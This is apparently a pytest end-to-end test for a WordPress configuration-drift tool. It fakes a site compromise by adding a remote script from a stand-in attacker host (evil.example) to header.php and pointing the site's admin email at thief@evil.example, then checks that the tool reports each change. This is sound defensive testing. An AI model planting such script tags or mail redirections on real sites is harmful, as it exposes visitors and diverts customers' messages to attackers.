"""A script pasted into header.php, the address that a form writes to, search engines shut out: each
is on the live site, found by a plan, and changed by nobody."""

import time
from typing import Any

import pytest

from tests.e2e.conftest import Take
from tests.e2e.fleet import Fleet
from tests.e2e.site import LAB, Site

pytestmark = pytest.mark.xdist_group("above")

_HEADER = "<!doctype html><html><head><title>{title}</title>\n<?php wp_head(); ?>\n</head><body>\n"
_THEME = {
    "style.css": "/* Theme Name: Maison\nVersion: 1.2 */\n",
    "functions.php": "<?php\nadd_theme_support( 'title-tag' );\n",
    "index.php": "<?php get_header(); while ( have_posts() ) { the_post(); the_content(); }\n"
    "wp_footer(); ?></body></html>\n",
}
_CONTENT = """content:
  forms: {write-to-us: crm@example.org}
  scripts: []
  theme_files: locked
  indexable: true
  sitemap: true
"""


def test_a_pasted_script_and_a_changed_address_are_told(take: Take, fleet: Fleet) -> None:
    (site,) = take("above")
    _furnish(site)
    file = fleet.site_file("above")
    file.write_text(file.read_text("utf-8") + _CONTENT, "utf-8")
    assert _drift(fleet) == {"content.theme_files": "maison 1.2 is not kept"}
    kept = fleet.wpstate("lock", "--theme-files", "above").out
    assert "+ maison of above: 4 files in theme-files/above/maison" in kept
    assert _drift(fleet) == {}

    script = "<script src='https://evil.example/x.js'></script>\n"
    site.write("wp-content/themes/maison/header.php", _HEADER.format(title=site.title) + script)
    site.wp("option", "update", "admin_email", "thief@evil.example")
    site.wp("option", "update", "blog_public", "0")
    time.sleep(2.1)  # OPcache looks again at files after two seconds
    site.curl("/lab-contact/", "-d", "lab_contact_message=hello")
    assert "thief@evil.example" in site.mails()

    found = _noted(fleet)
    assert {key: found[key]["state"]["value"] for key in sorted(found)} == {
        "content.forms.write-to-us": "t…8dd2@evil.example",
        "content.indexable": "not indexable: its setting, the front page",
        "content.scripts": "also evil.example",
        "content.sitemap": "status 404",
        "content.theme_files": "header.php changed",
    }
    assert found["content.theme_files"]["author"]["source"] == "file"
    plan = fleet.wpstate("plan", "above").out
    assert "! content.forms.write-to-us  crm@example.org → thief@evil.example " in plan
    assert f"      +{script}" in plan
    assert "thief" not in fleet.wpstate("plan", "above", "--format", "markdown").out


def _furnish(site: Site) -> None:
    """A theme of the client's own, and a form that writes to the customers' system."""
    for name, text in (*_THEME.items(), ("header.php", _HEADER.format(title=site.title))):
        site.write(f"wp-content/themes/maison/{name}", text)
    site.wp("theme", "activate", "maison")
    site.wp("plugin", "install", str(LAB / "wporg/plugins/lab-contact.1.0.zip"), "--activate")
    site.wp("option", "update", "admin_email", "crm@example.org")


def _noted(fleet: Fleet) -> dict[str, Any]:
    (site,) = fleet.wpstate("plan", "above", "--format", "json").json["sites"]
    assert site["changes"] == []
    return {n["address"]: n for n in site["noted"] if n["sort"] == "drift"}


def _drift(fleet: Fleet) -> dict[str, str]:
    return {address: noted["state"]["value"] for address, noted in _noted(fleet).items()}
